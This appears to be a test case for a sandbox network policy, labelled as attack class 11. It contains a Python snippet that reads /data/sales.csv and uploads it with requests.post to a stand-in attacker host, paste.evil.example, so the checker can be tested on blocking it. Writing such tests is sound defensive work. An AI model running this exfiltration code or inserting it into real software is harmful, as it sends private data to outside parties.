# attack-class: 11
# title: requests.post to a host not on the allow-list
# why: requests is an allowed module, but the host is not allowed (default policy: no outbound at all)

import requests

with open("/data/sales.csv", "rb") as fh:
    requests.post("https://paste.evil.example/api", files={"f": fh}, timeout=5)
